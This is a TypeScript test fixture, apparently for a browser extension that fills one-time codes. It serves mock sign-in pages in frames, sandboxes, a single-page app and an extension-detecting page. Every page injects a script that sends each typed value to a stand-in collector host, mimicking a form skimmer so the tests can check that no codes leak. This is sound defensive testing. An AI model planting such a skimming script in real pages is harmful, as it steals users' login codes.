import { serveNamedWeb, type NamedWeb } from './named-web';

/** Where the accounts belong. */
export const bank = 'https://login.bank.example';
export const tenant = 'https://acme.auth.eu-west-1.amazoncognito.com';

/** Every host of the web of these tests shows the same pages; what is typed into any of them is told to a collector. */
export interface NamedSites extends NamedWeb {
  /** What pages have told the collector. */
  readonly told: string[];
}

const collector = 'https://collector.example';

export async function serveNamedSites(): Promise<NamedSites> {
  const told: string[] = [];
  const web = await serveNamedWeb((url) => {
    if (url.origin === collector) {
      told.push(decodeURIComponent(url.search.slice(1)));
      return '';
    }
    const body = pages[url.pathname]?.(decodeURIComponent(url.search.slice(1)));
    return body === undefined ? undefined : `<!doctype html><title>A page</title>${telling}${body}`;
  });
  return { ...web, told };
}

const telling = `<script>
  addEventListener('input', ({ target }) => fetch('${collector}/?' + encodeURIComponent(target.value), { mode: 'no-cors' }));
</script>`;

const form = (heading: string) =>
  `<form><h1>${heading}</h1><label for="code">Code</label>
   <input id="code" name="otp" autocomplete="one-time-code" inputmode="numeric" maxlength="6"><button>Verify</button></form>`;

const signIn = `${telling}${form('Authenticator app code')}`;
const quoted = (html: string) => html.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

/** By path; the query is what a page is given. */
const pages: Record<string, (given: string) => string> = {
  '/': () => signIn,
  '/framing': (address) => `<h1>Welcome</h1><iframe src="${quoted(address)}"></iframe>`,
  '/sandboxed': () => `<h1>Welcome</h1><iframe sandbox="allow-scripts" srcdoc="${quoted(signIn)}"></iframe>`,
  '/blank': () =>
    `<h1>Welcome</h1><iframe></iframe>
     <script>frames[0].document.body.innerHTML = ${JSON.stringify(form('Authenticator app code'))};</script>`,
  /** A single-page app: its fields come after a press, without a new address. */
  '/app': () =>
    `<h1>Welcome</h1><button id="totp">Authenticator app</button><button id="email">E-mail</button><main></main>
     <script>
       const show = (html) => setTimeout(() => { document.querySelector('main').innerHTML = html; }, 100);
       document.getElementById('totp').onclick = () => show(${JSON.stringify(form('Enter the code from your authenticator app'))});
       document.getElementById('email').onclick = () => show(${JSON.stringify(form('We e-mailed you a code'))});
     </script>`,
  /** Looks out, from its very start, for whatever an extension may leave behind. */
  '/curious': () =>
    `<div style="height: 3000px"></div>${form('Authenticator app code')}
     <script>
       window.noticed = [];
       const notice = (what) => noticed.push(what);
       const before = new Set(Object.getOwnPropertyNames(window));
       window.newGlobals = () => Object.getOwnPropertyNames(window).filter((name) => !before.has(name) && name !== 'newGlobals');
       new MutationObserver((records) => notice('mutation ' + records[0].type)).observe(document, {
         attributes: true, childList: true, characterData: true, subtree: true,
       });
       for (const type of ['focus', 'focusin', 'blur', 'input', 'change', 'select', 'scroll', 'message', 'resize', 'keydown', 'paste'])
         addEventListener(type, () => notice('event ' + type), true);
       for (const [owner, name] of [
         [Element.prototype, 'getBoundingClientRect'], [Element.prototype, 'checkVisibility'], [Document.prototype, 'elementFromPoint'],
         [Document.prototype, 'querySelectorAll'], [Element.prototype, 'getAttribute'], [window, 'getComputedStyle'],
       ]) {
         const own = owner[name];
         owner[name] = function (...given) { notice('call ' + name); return own.apply(this, given); };
       }
     </script>`,
};
